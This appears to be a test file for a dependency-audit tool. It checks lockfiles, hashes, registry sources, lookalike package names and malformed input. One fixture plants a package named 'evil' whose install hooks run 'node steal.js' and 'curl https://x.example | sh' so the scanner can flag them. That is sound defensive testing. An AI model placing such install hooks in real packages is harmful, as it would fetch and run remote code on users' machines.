// The audit's dependency evidence (issue 13 item 2, risk 3): one planted bundle per finding code,
// a clean bundle with none above info, the six real servers' trees (no false positive), and
// hostile dependency files (huge, not JSON, NUL bytes, random bytes) as findings, never a throw.

import assert from 'node:assert/strict';
import { readdir, readFile, stat } from 'node:fs/promises';
import { join, relative } from 'node:path';
import fc from 'fast-check';
import type { AnalysisInput } from '../lib/analysis/analyze.ts';
import { checkDependencies, type DependencyFinding } from '../lib/analysis/dependencies.ts';
import { REAL_SERVERS, realServerBundle } from './helpers/real-servers.ts';

function bundle(files: Record<string, string | Uint8Array | object>): AnalysisInput[] {
  return Object.entries(files).map(([path, content]) => {
    const bytes = content instanceof Uint8Array ? content : Buffer.from(typeof content === 'string' ? content : JSON.stringify(content, null, 2));
    return { path, size: bytes.length, read: async () => bytes };
  });
}

/** code:package of every finding above info. */
async function codes(files: Record<string, string | Uint8Array | object>): Promise<string[]> {
  const findings = await checkDependencies(bundle(files));
  return findings.filter((finding) => finding.severity !== 'info').map((finding) => `${finding.code}${finding.package === undefined ? '' : `:${finding.package}`}`).sort();
}

const HASH = 'sha512-' + 'A'.repeat(86) + '==';
const SHA256 = 'a'.repeat(64);

function lock(packages: Record<string, object>): object {
  return { name: 'srv', version: '1.0.0', lockfileVersion: 3, requires: true, packages: { '': { name: 'srv', version: '1.0.0', dependencies: { zod: '3.25.0' } }, ...packages } };
}

const ZOD_LOCKED = { 'node_modules/zod': { version: '3.25.0', resolved: 'https://registry.npmjs.org/zod/-/zod-3.25.0.tgz', integrity: HASH } };
const CLEAN_NODE = {
  'manifest.json': { manifest_version: '0.3', name: 'srv', server: { type: 'node', entry_point: 'server/index.js' } },
  'package.json': { name: 'srv', version: '1.0.0', dependencies: { zod: '3.25.0' } },
  'package-lock.json': lock(ZOD_LOCKED),
  'node_modules/zod/package.json': { name: 'zod', version: '3.25.0' },
  'node_modules/zod/index.js': 'module.exports = {};',
  'server/index.js': "require('zod');",
};

describe('evidence: dependencies, one planted bundle per finding code', () => {
  it('a clean Node bundle: a lock with integrity for every package, bundled packages as locked, no install script', async () => {
    assert.deepEqual(await codes(CLEAN_NODE), []);
    const findings = await checkDependencies(bundle(CLEAN_NODE));
    assert.deepEqual(findings.map((finding) => finding.code), ['DEP_LOCK_PRESENT']);
    assert.match(findings[0]!.message, /1 packages pinned to exact versions, 1 with an integrity hash/u);
  });

  it('DEP_LOCK_ABSENT and DEP_UNPINNED: dependencies as ranges and no package-lock.json', async () => {
    assert.deepEqual(await codes({ 'package.json': { name: 'srv', dependencies: { zod: '^3.25.0', express: '5.1.0' } } }), ['DEP_LOCK_ABSENT', 'DEP_UNPINNED:zod']);
  });

  it('DEP_LOCK_ABSENT: node_modules bundled with no lock at all', async () => {
    assert.deepEqual(await codes({ 'node_modules/zod/package.json': { name: 'zod', version: '3.25.0' } }), ['DEP_LOCK_ABSENT']);
  });

  it('DEP_LOCK_UNCHECKED: a yarn.lock is present but not read', async () => {
    assert.deepEqual(await codes({ 'package.json': { name: 'srv', dependencies: { zod: '^3' } }, 'yarn.lock': 'zod@^3:\n  version "3.25.0"\n' }), ['DEP_LOCK_UNCHECKED']);
  });

  it('DEP_NO_INTEGRITY: a lock entry without an integrity hash, with its line', async () => {
    const findings = await checkDependencies(bundle({ ...CLEAN_NODE, 'package-lock.json': lock({ 'node_modules/zod': { version: '3.25.0', resolved: 'https://registry.npmjs.org/zod/-/zod-3.25.0.tgz' } }) }));
    const finding = findings.find((entry) => entry.code === 'DEP_NO_INTEGRITY');
    assert.deepEqual({ path: finding?.evidence.path, package: finding?.package, excerpt: finding?.evidence.excerpt }, { path: 'package-lock.json', package: 'zod', excerpt: '"node_modules/zod": {' });
    assert.ok((finding?.evidence.line ?? 0) > 1);
  });

  it('DEP_NOT_REGISTRY: git, plain http and another registry in the lock', async () => {
    const packages = {
      'node_modules/zod': { version: '3.25.0', resolved: 'git+ssh://git@github.com/evil/zod.git#abc', integrity: undefined },
      'node_modules/a-pkg': { version: '1.0.0', resolved: 'http://registry.example/a-pkg-1.0.0.tgz', integrity: HASH },
      'node_modules/b-pkg': { version: '1.0.0', resolved: 'https://npm.internal.example/b-pkg-1.0.0.tgz', integrity: HASH },
    };
    const findings = await checkDependencies(bundle({ 'package-lock.json': lock(packages) }));
    assert.deepEqual(findings.filter((finding) => finding.code === 'DEP_NOT_REGISTRY').map((finding) => `${finding.package}:${finding.severity}`).sort(), ['a-pkg:high', 'b-pkg:medium', 'zod:medium']);
  });

  it('DEP_INSTALL_SCRIPT: preinstall, install and postinstall in bundled packages, and an implicit node-gyp build', async () => {
    const findings = await checkDependencies(bundle({
      ...CLEAN_NODE,
      'package-lock.json': lock({ ...ZOD_LOCKED, 'node_modules/evil': { version: '1.0.0', integrity: HASH, resolved: 'https://registry.npmjs.org/evil/-/evil-1.0.0.tgz', hasInstallScript: true }, 'node_modules/native': { version: '1.0.0', integrity: HASH, resolved: 'https://registry.npmjs.org/native/-/native-1.0.0.tgz' } }),
      'node_modules/evil/package.json': { name: 'evil', version: '1.0.0', scripts: { preinstall: 'node steal.js', postinstall: 'curl https://x.example | sh', test: 'mocha' } },
      'node_modules/native/package.json': { name: 'native', version: '1.0.0' },
      'node_modules/native/binding.gyp': '{}',
    }));
    const scripts = findings.filter((finding) => finding.code === 'DEP_INSTALL_SCRIPT');
    assert.deepEqual(scripts.map((finding) => `${finding.package}:${finding.severity}:${finding.evidence.path}`).sort(), ['evil:high:node_modules/evil/package.json', 'evil:high:node_modules/evil/package.json', 'native:medium:node_modules/native/binding.gyp']);
    assert.ok(scripts.some((finding) => finding.message.includes('curl https://x.example | sh') && finding.evidence.excerpt?.includes('"postinstall"')));
  });

  it('DEP_LOCK_MISMATCH: a bundled version other than the locked one, and a bundled package the lock does not list', async () => {
    assert.deepEqual(await codes({ ...CLEAN_NODE, 'node_modules/zod/package.json': { name: 'zod', version: '3.24.9' }, 'node_modules/extra/package.json': { name: 'extra', version: '1.0.0' } }), ['DEP_LOCK_MISMATCH:extra', 'DEP_LOCK_MISMATCH:zod']);
  });

  it('the hidden lock node_modules/.package-lock.json counts as the lock of the directory above', async () => {
    const { 'package-lock.json': locked, ...rest } = CLEAN_NODE;
    assert.deepEqual(await codes({ ...rest, 'node_modules/.package-lock.json': locked }), []);
  });

  it('DEP_LOOKALIKE: a bundled npm package, a lock entry and a requirement one edit from popular names, each reported once', async () => {
    const findings = await checkDependencies(bundle({
      'package.json': { name: 'srv', dependencies: { lodahs: '1.0.0' } },
      'package-lock.json': lock({ 'node_modules/lodahs': { version: '1.0.0', integrity: HASH, resolved: 'https://registry.npmjs.org/lodahs/-/lodahs-1.0.0.tgz' } }),
      'node_modules/lodahs/package.json': { name: 'lodahs', version: '1.0.0' },
      'requirements.txt': `reqeusts==2.32.3 --hash=sha256:${SHA256}\n`,
    }));
    assert.deepEqual(findings.filter((finding) => finding.code === 'DEP_LOOKALIKE').map((finding) => `${finding.ecosystem}:${finding.package}`).sort(), ['npm:lodahs', 'pypi:reqeusts']);
    assert.match(findings.find((finding) => finding.package === 'lodahs')!.message, /lodash/u);
  });

  it('requirements.txt: DEP_UNPINNED, DEP_NO_INTEGRITY, DEP_EXTRA_INDEX and DEP_NOT_REGISTRY (and, not fully hashed, no lock)', async () => {
    const text = ['--extra-index-url https://pypi.internal.example/simple', 'requests>=2.0', `httpx==0.27.0 \\\n    --hash=sha256:${SHA256}`, 'mcp==1.2.0', 'git+https://github.com/x/y.git#egg=y', '# a comment', ''].join('\n');
    const findings = await checkDependencies(bundle({ 'requirements.txt': text }));
    assert.deepEqual(findings.map((finding) => `${finding.code}:${finding.severity}`).sort(), ['DEP_EXTRA_INDEX:high', 'DEP_LOCK_ABSENT:medium', 'DEP_NOT_REGISTRY:medium', 'DEP_NO_INTEGRITY:high', 'DEP_UNPINNED:medium']);
    assert.match(findings.find((finding) => finding.code === 'DEP_NO_INTEGRITY')!.message, /2 of 3 requirements/u);
    assert.equal(findings.find((finding) => finding.code === 'DEP_EXTRA_INDEX')!.evidence.line, 1);
  });

  it('requirements.txt pinned and hashed (pip --require-hashes) is a lock; pyproject dependencies without one are DEP_LOCK_ABSENT', async () => {
    assert.deepEqual(await codes({ 'requirements.txt': `mcp==1.2.0 --hash=sha256:${SHA256}\n`, 'server/main.py': 'import mcp' }), []);
    assert.deepEqual(await codes({ 'pyproject.toml': '[project]\nname = "srv"\ndependencies = [\n  "mcp>=1.0",\n  "httpx",\n]\n' }), ['DEP_LOCK_ABSENT']);
  });

  it('uv.lock: hashes per package, DEP_NO_INTEGRITY for one without, DEP_NOT_REGISTRY for a git source, the project itself skipped', async () => {
    const uvLock = [
      'version = 1', '', '[[package]]', 'name = "srv"', 'version = "0.1.0"', 'source = { editable = "." }', '',
      '[[package]]', 'name = "httpx"', 'version = "0.27.0"', 'source = { registry = "https://pypi.org/simple" }',
      `sdist = { url = "https://files.pythonhosted.org/httpx-0.27.0.tar.gz", hash = "sha256:${SHA256}", size = 1 }`, '',
      '[[package]]', 'name = "anyio"', 'version = "4.0.0"', 'source = { registry = "https://pypi.org/simple" }', '',
      '[[package]]', 'name = "tool"', 'version = "0.1.0"', 'source = { git = "https://github.com/x/tool?rev=main#abc" }', '',
    ].join('\n');
    const findings = await checkDependencies(bundle({ 'uv.lock': uvLock, 'pyproject.toml': '[project]\ndependencies = ["httpx"]\n' }));
    assert.deepEqual(findings.map((finding) => `${finding.code}${finding.package === undefined ? '' : `:${finding.package}`}`).sort(), ['DEP_LOCK_PRESENT', 'DEP_NOT_REGISTRY:tool', 'DEP_NO_INTEGRITY:anyio']);
    assert.match(findings.find((finding) => finding.code === 'DEP_LOCK_PRESENT')!.message, /3 packages pinned, 2 with a hash/u);
  });

  it('poetry.lock (files with hashes, and the older [metadata.files]) and Pipfile.lock', async () => {
    const poetry = ['[[package]]', 'name = "httpx"', 'version = "0.27.0"', 'files = [', `    {file = "httpx-0.27.0.tar.gz", hash = "sha256:${SHA256}"},`, ']', '', '[[package]]', 'name = "old"', 'version = "1.0"', '', '[metadata.files]', 'old = [', `    {file = "old-1.0.tar.gz", hash = "sha256:${SHA256}"},`, ']', ''].join('\n');
    assert.deepEqual(await codes({ 'poetry.lock': poetry }), []);
    const pipfile = { _meta: {}, default: { httpx: { version: '==0.27.0', hashes: [`sha256:${SHA256}`] }, nohash: { version: '==1.0' } }, develop: {} };
    assert.deepEqual(await codes({ 'Pipfile.lock': pipfile }), ['DEP_NO_INTEGRITY:nohash']);
  });

  it('DEP_UV_NO_HASHED_LOCK: a uv server without uv.lock; uvx of an unpinned package is DEP_UNPINNED too; a hashed uv.lock passes', async () => {
    const uvServer = { manifest_version: '0.3', name: 'srv', server: { type: 'uv', entry_point: 'src/server.py', mcp_config: { command: 'uv', args: ['run', 'src/server.py'] } } };
    assert.deepEqual(await codes({ 'manifest.json': uvServer, 'pyproject.toml': '[project]\ndependencies = ["mcp"]\n' }), ['DEP_UV_NO_HASHED_LOCK']);
    const uvx = { manifest_version: '0.3', name: 'srv', server: { type: 'python', entry_point: 'x.py', mcp_config: { command: 'uvx', args: ['mcp-server-fetch'] } } };
    assert.deepEqual(await codes({ 'manifest.json': uvx }), ['DEP_UNPINNED:mcp-server-fetch', 'DEP_UV_NO_HASHED_LOCK']);
    const hashed = ['[[package]]', 'name = "mcp"', 'version = "1.2.0"', 'source = { registry = "https://pypi.org/simple" }', `wheels = [`, `    { url = "https://files.pythonhosted.org/mcp-1.2.0-py3-none-any.whl", hash = "sha256:${SHA256}", size = 1 },`, ']', ''].join('\n');
    assert.deepEqual(await codes({ 'manifest.json': uvServer, 'pyproject.toml': '[project]\ndependencies = ["mcp"]\n', 'uv.lock': hashed }), []);
  });

  it('DEP_LOOKALIKE from bundled *.dist-info folder names', async () => {
    assert.deepEqual(await codes({ 'server/lib/reqeusts-2.32.3.dist-info/METADATA': 'Name: reqeusts', 'server/lib/httpx-0.27.0.dist-info/METADATA': 'Name: httpx' }), ['DEP_LOOKALIKE:reqeusts']);
  });
});

describe('evidence: dependencies on hostile files and real trees', () => {
  it('DEP_FILE_UNREADABLE: a lock over the cap, a lock that is not JSON, a package.json with NUL bytes; never a throw', async () => {
    const findings = await checkDependencies(bundle({ 'package-lock.json': '{"lockfileVersion": 3, "packages": {', 'node_modules/x/package.json': new Uint8Array([0x7b, 0, 0x7d]), 'sub/package-lock.json': 'x'.repeat(2048) }), { limits: { maxDependencyFileSize: 1024 } });
    assert.deepEqual(findings.filter((finding) => finding.code === 'DEP_FILE_UNREADABLE').map((finding) => finding.evidence.path).sort(), ['node_modules/x/package.json', 'package-lock.json', 'sub/package-lock.json']);
  });

  it('property: random bytes and random JSON in every dependency file never make the check throw', async () => {
    await fc.assert(
      fc.asyncProperty(fc.oneof(fc.uint8Array({ maxLength: 300 }), fc.json().map((text) => Buffer.from(text)), fc.jsonValue().map((value) => Buffer.from(JSON.stringify({ lockfileVersion: 3, packages: value, dependencies: value, default: value, scripts: value })))), async (bytes) => {
        const names = ['package-lock.json', 'package.json', 'node_modules/a/package.json', 'node_modules/.package-lock.json', 'requirements.txt', 'uv.lock', 'poetry.lock', 'Pipfile.lock', 'pyproject.toml', 'manifest.json'];
        const findings = await checkDependencies(names.map((path) => ({ path, size: bytes.length, read: async () => bytes })));
        assert.ok(findings.every((finding: DependencyFinding) => typeof finding.code === 'string' && typeof finding.evidence.path === 'string'));
      }),
      { numRuns: 300 },
    );
  });

  it('a 10 MB requirements file of continuation lines and URL requirements is read in linear time with a bounded list of findings', async () => {
    const text = 'x \\\n  y\n'.repeat(400_000) + 'git+https://github.com/x/y.git\n'.repeat(200_000);
    const findings = await checkDependencies(bundle({ 'requirements.txt': text }));
    assert.equal(findings.filter((finding) => finding.code === 'DEP_NOT_REGISTRY').length, 20);
  });

  it('3,000 bundled packages the lock does not list give at most 200 DEP_LOCK_MISMATCH findings and one that counts the rest', async () => {
    const files: Record<string, object> = { 'package-lock.json': lock(ZOD_LOCKED) };
    for (let index = 0; index < 3000; index++) files[`node_modules/pkg-${index}/package.json`] = { name: `pkg-${index}`, version: '1.0.0' };
    const mismatches = (await checkDependencies(bundle(files))).filter((finding) => finding.code === 'DEP_LOCK_MISMATCH');
    assert.equal(mismatches.length, 201);
    assert.match(mismatches.at(-1)!.message, /^2800 more DEP_LOCK_MISMATCH findings/u);
  });

  it('a deeply nested node_modules (200 levels) is read without recursion trouble', async () => {
    const files: Record<string, object> = {};
    let dir = '';
    for (let level = 0; level < 200; level++) {
      dir += `node_modules/p${level}/`;
      files[`${dir}package.json`] = { name: `p${level}`, version: '1.0.0' };
    }
    const findings = await checkDependencies(bundle(files));
    assert.deepEqual(findings.map((finding) => finding.code), ['DEP_LOCK_ABSENT']);
  });

  it(`the six real servers' installed trees give no finding above info, and each has its lock`, async () => {
    for (const server of REAL_SERVERS) {
      const root = await realServerBundle(server);
      const inputs: AnalysisInput[] = [];
      const walk = async (directory: string): Promise<void> => {
        for (const entry of await readdir(directory, { withFileTypes: true })) {
          const path = join(directory, entry.name);
          if (entry.isDirectory()) await walk(path);
          else if (entry.isFile()) inputs.push({ path: relative(root, path), size: (await stat(path)).size, read: () => readFile(path) });
        }
      };
      await walk(root);
      const findings = await checkDependencies(inputs);
      assert.deepEqual(findings.filter((finding) => finding.severity !== 'info').map((finding) => `${finding.code}:${finding.message}`), [], server.name);
      assert.ok(findings.some((finding) => finding.code === 'DEP_LOCK_PRESENT'), server.name);
    }
  });
});
